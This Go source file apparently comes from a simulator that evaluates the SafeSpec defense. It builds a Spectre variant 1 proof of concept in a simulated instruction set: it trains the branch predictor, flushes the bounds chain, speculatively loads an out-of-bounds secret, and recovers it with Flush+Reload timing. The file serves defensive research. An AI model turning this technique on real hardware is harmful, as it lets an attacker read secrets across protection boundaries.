package attacks

import (
	"safespec/internal/asm"
	"safespec/internal/isa"
)

// SpectreV1 returns the bounds-check-bypass attack (paper Section II-B2).
//
// The victim gadget is the classic
//
//	if (offset < array1_size)
//	    y = array2[array1[offset] * 512];
//
// The attacker (same program, as in variant 1's same-process setting):
//
//  1. trains the bounds branch with in-bounds offsets;
//  2. flushes the pointer chain holding array1_size, creating a long
//     speculation window;
//  3. calls the gadget with an out-of-bounds offset reaching the secret;
//  4. probes array2 with Flush+Reload timing.
//
// Under the baseline the secret-dependent probe line was installed in the
// committed D-cache by the squashed path and the probe finds it fast.
// Under SafeSpec (either policy) the line only ever existed in the shadow
// D-cache and was annulled on squash.
func SpectreV1() Attack {
	return Attack{
		Name:         "spectre-v1",
		Secret:       DefaultSecret,
		Build:        spectreV1Program,
		MinGap:       50,
		FastIsSignal: true,
	}
}

var spectreV1Program = memoized(buildSpectreV1)

func buildSpectreV1(secret int64) (*isa.Program, error) {
	b := asm.NewBuilder()
	emitResultsRegion(b)
	b.Region(Array1Base, 4096, false)
	b.Region(BoundChainBase, 4096, false)
	b.Region(SecretVA, 4096, false)

	// array1 holds benign values 0; the secret sits out of bounds at
	// SecretVA. Offsets are in 8-byte words.
	for i := 0; i < 4; i++ {
		b.Data(Array1Base+uint64(i)*8, 0)
	}
	b.Data(SecretVA, secret)
	outOfBoundsOff := int64(SecretVA-Array1Base) / 8

	const (
		rOff   = isa.A0 // gadget argument: offset
		rBound = isa.T0
		rVal   = isa.T1
		rAddr  = isa.T2
		rIter  = isa.S0
		rLim   = isa.S1
		rTmp   = isa.T3
	)

	// --- main ---
	// Warm the secret page's translation by touching a *different* line in
	// the same page (the attacker's own address space contains the page;
	// only the secret line itself must stay architecturally unread). This
	// keeps the gadget's speculative secret load within the window: a cold
	// page walk plus a cold line would take ~480 cycles and lose the race
	// with the bounds branch.
	b.Movi(rTmp, int64(SecretVA+2048))
	b.Load(rTmp, rTmp, 0)

	// Training: 8 in-bounds calls; the chain is cached after the first
	// traversal, so the branch resolves fast and trains not-taken
	// (in-bounds falls through the Bge).
	b.Movi(rIter, 0)
	b.Movi(rLim, 8)
	b.Label("train")
	b.Andi(rOff, rIter, 3)
	b.Call("victim")
	b.Addi(rIter, rIter, 1)
	b.Blt(rIter, rLim, "train")

	// Attack: flush the bound chain (window ≈ two serialized misses), then
	// call with the malicious offset.
	emitFlushChain(b, rTmp, BoundChainBase, 2)
	b.Fence()
	b.Movi(rOff, outOfBoundsOff)
	b.Call("victim")
	b.Fence()

	// Receive.
	emitProbeLoads(b, ProbeBase, ProbeStride)
	b.Halt()

	// --- victim gadget ---
	b.Label("victim")
	emitBoundChain(b, rBound, BoundChainBase, 2, 4) // array1_size = 4
	b.Bge(rOff, rBound, "victim_out")               // bounds check
	b.Shli(rAddr, rOff, 3)
	b.Addi(rAddr, rAddr, int64(Array1Base))
	b.Load(rVal, rAddr, 0) // array1[offset] — the secret, speculatively
	b.Shli(rVal, rVal, 9)  // * ProbeStride
	b.Addi(rVal, rVal, int64(ProbeBase))
	b.Load(rTmp, rVal, 0) // secret-dependent probe access
	b.Label("victim_out")
	b.Ret()

	return b.Build()
}
